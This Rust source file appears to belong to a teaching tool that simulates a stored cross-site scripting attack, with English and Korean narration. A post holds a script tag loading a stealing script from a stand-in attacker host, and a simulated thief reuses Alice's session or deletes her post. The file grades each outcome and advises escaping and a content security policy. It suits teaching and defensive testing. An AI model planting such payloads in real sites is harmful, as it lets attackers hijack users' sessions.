//! A post that holds a script: what it sends away, and what it does where it is.

use anyhow::Result;
use http::Method;

use super::stolen::refused_within;
use super::{Stage, Verdict, amber, green, red};
use crate::browser::is;
use crate::text::say;

/// The post, as Mallory writes it; the browser tests serve the script for real.
const POST: &str = "<script src=//attacker/steal.js></script>";

pub(super) async fn exfiltrate(stage: &mut Stage) -> Result<Verdict> {
    planted(stage).await?;
    robbed(stage).await?;
    let tries = say("The thief tries what came.", "도둑이 받은 것을 써 본다.");
    if !is(&stage.thief.once(Method::GET, "/me", tries).await?, "alice") {
        return Ok(green(
            "What a script could read was worth nothing elsewhere.",
            "스크립트가 읽은 것은 다른 곳에서 아무 쓸모가 없었다.",
        ));
    }
    stage.running.ten_minutes().await;
    let again = say("Ten minutes later the thief tries again.", "10분 뒤 다시 시도한다.");
    if is(&stage.thief.call(Method::GET, "/me", again).await?, "alice") {
        return Ok(red(
            "The thief is Alice, on another machine, for as long as it likes.",
            "도둑이 다른 컴퓨터에서 계속 앨리스로 행세한다.",
        ));
    }
    robbed(stage).await?;
    stage.alice.sign_out(say("Alice signs out.", "앨리스가 로그아웃한다.")).await?;
    Ok(match refused_within(stage).await? {
        Some(_) => amber(
            "The thief is Alice on another machine until a token expires or her session ends.",
            "토큰이 만료되거나 세션이 끝날 때까지 도둑이 다른 컴퓨터에서 앨리스로 행세한다.",
        ),
        None => amber(
            "The thief is Alice on another machine until an access token expires, also after she signs out.",
            "로그아웃한 뒤에도 access 토큰이 만료될 때까지 도둑이 다른 컴퓨터에서 앨리스로 행세한다.",
        ),
    })
}

/// The script asks for whatever an answer gives to scripts, and the thief gets all that it reached.
async fn robbed(stage: &mut Stage) -> Result<()> {
    let asks = say(
        "The script asks for whatever an answer gives to scripts.",
        "스크립트가 응답에서 얻을 수 있는 것을 모두 요청한다.",
    );
    stage.alice.steals(&mut stage.thief, asks).await?;
    let sends = say(
        "The script sends all it could reach to the attacker's site.",
        "스크립트가 얻은 것을 모두 공격자 사이트로 보낸다.",
    );
    stage.trace.note("alice", "thief", sends);
    Ok(())
}

pub(super) async fn act(stage: &mut Stage) -> Result<Verdict> {
    planted(stage).await?;
    let post = stage.alice.write("Mine.", say("Alice writes a post.", "앨리스가 글을 쓴다.")).await?;
    stage
        .alice
        .call(
            Method::POST,
            &format!("/posts/{post}/delete"),
            say(
                "The script does in her page what her page could do: it deletes her post.",
                "스크립트가 페이지 안에서 페이지가 할 수 있는 일을 한다. 글을 지운다.",
            ),
        )
        .await?;
    Ok(if stage.is_there(post).await? {
        green("The script could do nothing.", "스크립트는 아무것도 할 수 없었다.")
    } else {
        red(
            "The script did it. No scheme stops that: escape what people write, and set a content security policy.",
            "스크립트가 해냈다. 어떤 방식도 막지 못한다. 출력 이스케이프와 CSP가 필요하다.",
        )
    })
}

async fn planted(stage: &mut Stage) -> Result<()> {
    stage.mallory.sign_in(say("Mallory signs in.", "맬러리가 로그인한다.")).await?;
    stage
        .mallory
        .write(POST, say("Mallory writes a post that holds a script.", "맬러리가 스크립트가 든 글을 쓴다."))
        .await?;
    stage.alice_signs_in().await?;
    stage
        .alice
        .open(
            0,
            say(
                "Alice opens the page; the script of the post runs in it.",
                "앨리스가 페이지를 열고, 글 속의 스크립트가 그 안에서 실행된다.",
            ),
        )
        .await?;
    Ok(())
}
